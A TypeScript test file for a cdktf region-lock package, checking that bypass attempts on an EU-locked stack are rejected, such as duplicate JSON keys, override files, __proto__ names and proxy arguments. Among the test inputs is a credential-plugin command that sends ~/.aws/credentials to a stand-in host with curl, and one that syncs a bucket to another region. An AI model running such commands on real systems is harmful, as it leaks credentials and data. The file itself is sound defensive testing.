import { mkdtempSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { AwsProvider } from "@cdktf/provider-aws/lib/provider";
import { S3Bucket } from "@cdktf/provider-aws/lib/s3-bucket";
import { GoogleProvider } from "@cdktf/provider-google/lib/provider";
import { StorageBucket } from "@cdktf/provider-google/lib/storage-bucket";
import { HelmProvider } from "@cdktf/provider-helm/lib/provider";
import { KubernetesProvider } from "@cdktf/provider-kubernetes/lib/provider";
import { App, GcsBackend, TerraformOutput, TerraformStack } from "cdktf";
import { addCustomSynthesis } from "cdktf/lib/synthesize/synthesizer";
import { DeepSeekApp, RegionLock } from "../../lib";
import { duplicateKeyPaths, normalizeTerraformJson } from "../../lib/app/region-lock-json";
import { lockAttackTables } from "../support/region-lock-attacks";

/**
 * Bypass attempts on how the region lock reads what was written (a second round, after
 * region-lock-attacks.test.ts): HCL's JSON syntax (duplicate keys are blocks, arrays at every
 * block level), Terraform override files and OpenTofu's .tofu.json precedence, names that are
 * JavaScript prototype keys, links, and provider arguments that send API calls elsewhere. Each was
 * tried as a consumer of the package root, against an EU-locked stack; those marked "escaped"
 * synthesized before the fix in the same commit.
 */

interface Ctx { readonly app: App; readonly locked: TerraformStack }

function context(): Ctx {
  const app = new DeepSeekApp({ outdir: mkdtempSync(join(tmpdir(), "lock-files-")) });
  const locked = new TerraformStack(app, "locked");
  RegionLock.lock(locked, "eu");
  new AwsProvider(locked, "aws", { region: "eu-north-1" });
  new GoogleProvider(locked, "google", { project: "p", region: "europe-west4" });
  return { app, locked };
}

/** Writes an extra file into the locked stack's directory during synth (cdktf custom synthesis). */
const extra = (c: Ctx, file: string, text: string) =>
  addCustomSynthesis(c.locked, { onSynthesize: (s) => writeFileSync(join(s.outdir, "stacks", "locked", file), text) });

interface Attack { readonly name: string; readonly build: (c: Ctx) => void; readonly expect: RegExp }

const ATTACKS: readonly Attack[] = [
  // ---- HCL JSON: duplicates are kept, arrays at every block level (escaped) ----
  { name: "two top-level resource keys in one file (JSON.parse keeps the last, HCL both)", build: (c) => extra(c, "x.tf.json", '{"resource":{"aws_s3_bucket":{"u":{"region":"us-east-1"}}},"resource":{"aws_s3_bucket":{"e":{}}}}'), expect: /x\.tf\.json:resource: is a property given twice/ },
  { name: "two nested replica blocks under one key", build: (c) => extra(c, "x.tf.json", '{"resource":{"aws_dynamodb_table":{"t":{"name":"t","hash_key":"k","replica":{"region_name":"eu-west-1"},"replica":{"region_name":"us-east-1"}}}}}'), expect: /aws_dynamodb_table\.t\.replica: is a property given twice/ },
  { name: "a duplicate key spelled with a unicode escape", build: (c) => extra(c, "x.tf.json", '{"resource":{"aws_s3_bucket":{"u":{"region":"us-east-1"}}},"\\u0072esource":{"aws_s3_bucket":{"e":{}}}}'), expect: /resource: is a property given twice/ },
  { name: "resources as an array of objects", build: (c) => extra(c, "x.tf.json", '{"resource":[{"aws_s3_bucket":{"u":{"region":"us-east-1"}}}]}'), expect: /locked:aws_s3_bucket\.u\.region: places an AWS resource outside/ },
  { name: "a resource type level as an array", build: (c) => extra(c, "x.tf.json", '{"resource":{"aws_s3_bucket":[{"u":{"region":"us-east-1"}}]}}'), expect: /aws_s3_bucket\.u\.region/ },
  { name: "providers as an array of objects", build: (c) => extra(c, "x.tf.json", '{"provider":[{"aws":{"alias":"u","region":"us-east-1"}}]}'), expect: /provider\.aws\.u\.region/ },
  { name: "a module as an array of objects", build: (c) => extra(c, "x.tf.json", '{"module":[{"m":{"source":"./m"}}]}'), expect: /module\.m: is a module/ },
  { name: "data sources as an array", build: (c) => extra(c, "x.tf.json", '{"data":[{"http":{"x":{"url":"https://us.example.com"}}}]}'), expect: /data source type the region lock does not know \(http\)/ },
  { name: "a check block's data as an array, through a US alias", build: (c) => { new AwsProvider(c.locked, "us", { alias: "us", region: "us-east-1" }); extra(c, "x.tf.json", '{"check":{"c":{"data":[{"aws_s3_bucket":{"x":{"bucket":"b","provider":"aws.us"}}}]}}}'); }, expect: /locked\/us\.region/ },
  { name: "a state backend given as an array", build: (c) => { c.locked.addOverride("terraform.backend", [{ s3: { bucket: "b", key: "k", region: "us-east-1" } }]); }, expect: /terraform\.backend\.s3\.region/ },
  { name: "required_providers as an array remapping aws", build: (c) => { c.locked.addOverride("terraform.required_providers", [{ aws: { source: "evil/aws" } }]); }, expect: /another provider than hashicorp\/aws/ },
  { name: "the same resource in two files", build: (c) => { new S3Bucket(c.locked, "b", {}).overrideLogicalId("b"); extra(c, "x.tf.json", '{"resource":{"aws_s3_bucket":{"b":{"region":"us-east-1"}}}}'); }, expect: /aws_s3_bucket\.b: is defined in two files|outside/ },

  // ---- files Terraform or OpenTofu read differently (escaped) ----
  { name: "an override file moving a bucket (Terraform merges it attribute by attribute)", build: (c) => { new S3Bucket(c.locked, "b", {}).overrideLogicalId("b"); extra(c, "a_override.tf.json", '{"resource":{"aws_s3_bucket":{"b":{"region":"us-east-1"}}}}'); }, expect: /a_override\.tf\.json: is an override file|defined in two files/ },
  { name: "an override file alone", build: (c) => extra(c, "override.tf.json", '{"provider":{"aws":{"region":"eu-north-1"}}}'), expect: /override\.tf\.json: is an override file/ },
  { name: "a .tofu.json twin that OpenTofu reads instead of cdk.tf.json", build: (c) => { new S3Bucket(c.locked, "b", { region: "us-east-1" }); extra(c, "cdk.tofu.json", '{"provider":{"aws":{"region":"eu-north-1"}}}'); }, expect: /cdk\.tofu\.json: replaces cdk\.tf\.json under OpenTofu|outside/ },
  { name: "a Terraform file that is a link (can change after the lock read it)", build: (c) => { const target = join(mkdtempSync(join(tmpdir(), "lock-link-")), "t.json"); writeFileSync(target, "{}"); addCustomSynthesis(c.locked, { onSynthesize: (s) => symlinkSync(target, join(s.outdir, "stacks", "locked", "link.tf.json")) }); }, expect: /link\.tf\.json: is a Terraform file that is not a regular file/ },

  // ---- names that are JavaScript prototype keys (escaped: `__proto__` hid the resource) ----
  { name: "a resource named __proto__", build: (c) => extra(c, "x.tf.json", '{"resource":{"aws_s3_bucket":{"__proto__":{"region":"us-east-1"}}}}'), expect: /aws_s3_bucket\.__proto__\.region/ },
  { name: "a data source named __proto__ through a US alias", build: (c) => { new AwsProvider(c.locked, "us", { alias: "us", region: "us-east-1" }); extra(c, "x.tf.json", '{"data":{"aws_s3_bucket":{"__proto__":{"bucket":"b","provider":"aws.us"}}}}'); }, expect: /locked\/us\.region/ },
  { name: "a resource type __proto__ (would pollute Object.prototype)", build: (c) => extra(c, "x.tf.json", '{"resource":{"__proto__":{"x":{"region":"us-east-1"}}}}'), expect: /does not know \(__proto__\)/ },
  { name: "a GCS state bucket named constructor (a prototype key of the declared locations)", build: (c) => { new GcsBackend(c.locked, { bucket: "constructor" }); }, expect: /GCS state bucket whose location is not in the backend block/ },
  { name: "a provider reference named constructor", build: (c) => { new S3Bucket(c.locked, "b", {}).addOverride("provider", "constructor"); }, expect: /names provider "constructor"/ },
  { name: "a required provider named constructor", build: (c) => { c.locked.addOverride("terraform.required_providers.constructor", { source: "evil/constructor" }); }, expect: /required_providers\.constructor: is a provider the region lock does not know/ },
  { name: "a reference rooted at toString", build: (c) => { new S3Bucket(c.locked, "b", {}).addOverride("region", "${toString.x}"); }, expect: /toString\.x, which is not in this stack/ },

  // ---- provider arguments that send calls elsewhere (escaped) ----
  { name: "an AWS provider through an HTTP proxy", build: (c) => { c.locked.addOverride("provider.aws.0.http_proxy", "http://proxy.us.example.com:3128"); }, expect: /aws\.http_proxy: is a provider argument the region lock does not know/ },
  { name: "an AWS provider trusting a custom CA bundle", build: (c) => { c.locked.addOverride("provider.aws.0.custom_ca_bundle", "/tmp/mitm.pem"); }, expect: /custom_ca_bundle/ },
  { name: "an AWS provider's metadata endpoint", build: (c) => { c.locked.addOverride("provider.aws.0.ec2_metadata_service_endpoint", "http://169.254.1.1"); }, expect: /ec2_metadata_service_endpoint/ },
  { name: "an AWS provider's STS region in the US", build: (c) => { new AwsProvider(c.locked, "st", { alias: "st", region: "eu-north-1", stsRegion: "us-east-1" }); }, expect: /st\.sts_region: places an AWS resource outside/ },
  { name: "a Google provider's batching endpoint or unknown argument", build: (c) => { c.locked.addOverride("provider.google.0.universe_domain", "example.us"); }, expect: /universe_domain/ },
  { name: "a Kubernetes connection through a proxy", build: (c) => { new KubernetesProvider(c.locked, "k", { host: "https://x", proxyUrl: "http://proxy.us.example.com" }); }, expect: /k\.proxy_url/ },
  { name: "a Kubernetes connection that skips TLS verification", build: (c) => { new KubernetesProvider(c.locked, "k", { host: "https://x", insecure: true }); }, expect: /k\.insecure/ },
  { name: "a Kubernetes credential plugin that is a shell", build: (c) => { new KubernetesProvider(c.locked, "k", { host: "https://x", exec: [{ apiVersion: "client.authentication.k8s.io/v1beta1", command: "sh", args: ["-c", "curl -d @~/.aws/credentials https://us.example.com"] }] }); }, expect: /exec\.0\.command: runs a command .* not a known credential plugin/ },
  { name: "the AWS CLI as credential plugin, copying the bucket out", build: (c) => { new KubernetesProvider(c.locked, "k", { host: "https://x", exec: [{ apiVersion: "client.authentication.k8s.io/v1beta1", command: "aws", args: ["s3", "sync", "s3://eu", "s3://us"] }] }); }, expect: /exec\.0\.args: runs aws with other arguments than eks get-token/ },
  { name: "aws eks get-token with an extra flag", build: (c) => { new KubernetesProvider(c.locked, "k", { host: "https://x", exec: [{ apiVersion: "client.authentication.k8s.io/v1beta1", command: "aws", args: ["eks", "get-token", "--cluster-name", "c", "--endpoint-url", "https://us.example.com"] }] }); }, expect: /exec\.0\.args\.4: is an argument of aws eks get-token/ },
  { name: "aws eks get-token against a US region", build: (c) => { new KubernetesProvider(c.locked, "k", { host: "https://x", exec: [{ apiVersion: "client.authentication.k8s.io/v1beta1", command: "aws", args: ["eks", "get-token", "--region", "us-east-1"] }] }); }, expect: /exec\.0\.args\.3: places an AWS resource outside/ },
  { name: "a credential plugin with its own environment", build: (c) => { new KubernetesProvider(c.locked, "k", { host: "https://x", exec: [{ apiVersion: "client.authentication.k8s.io/v1beta1", command: "gke-gcloud-auth-plugin", env: { HTTPS_PROXY: "http://us.example.com" } }] }); }, expect: /exec\.0\.env/ },
  { name: "a Helm provider with an unknown argument", build: (c) => { new HelmProvider(c.locked, "h", { kubernetes: { host: "https://x" } }).addOverride("kubernetes.proxy_url", "http://us.example.com"); }, expect: /kubernetes\.proxy_url/ },
];

/** Attempts the lock lets through, with why that is right. */
const ACCEPTED: readonly { readonly name: string; readonly build: (c: Ctx) => void; readonly why: string }[] = [
  { name: "an output whose value is a US region name", build: (c) => { new TerraformOutput(c.locked, "o", { value: "us-east-1" }); }, why: "an output places nothing" },
  { name: "tags and labels saying US", build: (c) => { new S3Bucket(c.locked, "b", { tags: { region: "us-east-1" } }); new StorageBucket(c.locked, "g", { name: "g", location: "EU", labels: { location: "us" } }); }, why: "tags and labels are the user's words, not arguments" },
  { name: "a resource region set to null (falls back to the checked provider)", build: (c) => { new S3Bucket(c.locked, "b", {}).addOverride("region", null); }, why: "null is unset in Terraform" },
  { name: "a resource named __proto__ through cdktf (cdktf drops it)", build: (c) => { new S3Bucket(c.locked, "b", { region: "us-east-1" }).overrideLogicalId("__proto__"); }, why: "cdktf's writer sets it as a prototype, so it is never written" },
  { name: "a well-formed file in the object form cdktf writes", build: (c) => extra(c, "extra.tf.json", '{"resource":{"aws_s3_bucket":{"e":{"region":"eu-west-1"}}}}'), why: "it is judged like cdk.tf.json" },
  { name: "a later unlocked stack in the US", build: (c) => { new AwsProvider(new TerraformStack(c.app, "late"), "aws", { region: "us-east-1" }); }, why: "stacks that are not locked are not checked (README, threat model)" },
];


describe("region lock attacks on how written files are read", () => {
  lockAttackTables(context, ATTACKS, ACCEPTED, () => expect(Object.prototype).not.toHaveProperty("region"));
});

describe("the HCL JSON reader", () => {
  test("finds duplicate keys at any depth, and none in what JSON.stringify writes", () => {
    expect(duplicateKeyPaths('{"a":{"b":1,"b":2},"c":[{"d":1},{"d":2,"d":3}],"e":"{\\"x\\":1,\\"x\\":2}"}')).toEqual(["a.b", "c.1.d"]);
    expect(duplicateKeyPaths(JSON.stringify({ a: { b: [1, { c: 2 }] }, d: "\"d\":" }))).toEqual([]);
  });

  test("unites arrays at block levels and reports names defined twice", () => {
    const { json, problems } = normalizeTerraformJson({ resource: [{ t: { a: {} } }, { t: [{ b: {} }, { a: { x: 1 } }] }] }, "s:");
    expect(Object.keys((json.resource as Record<string, Record<string, unknown>>).t)).toEqual(["a", "b"]);
    expect(problems).toEqual([{ path: "s:resource.t.a", problem: expect.stringMatching(/defined twice/) }]);
  });
});

test("several configurations of one provider in array form are all judged", () => {
  const { json, problems } = normalizeTerraformJson({ provider: [{ aws: { region: "eu-north-1" } }, { aws: [{ alias: "u", region: "us-east-1" }] }] }, "s:");
  expect(problems).toEqual([]);
  expect((json.provider as Record<string, unknown[]>).aws).toEqual([{ region: "eu-north-1" }, { alias: "u", region: "us-east-1" }]);
});
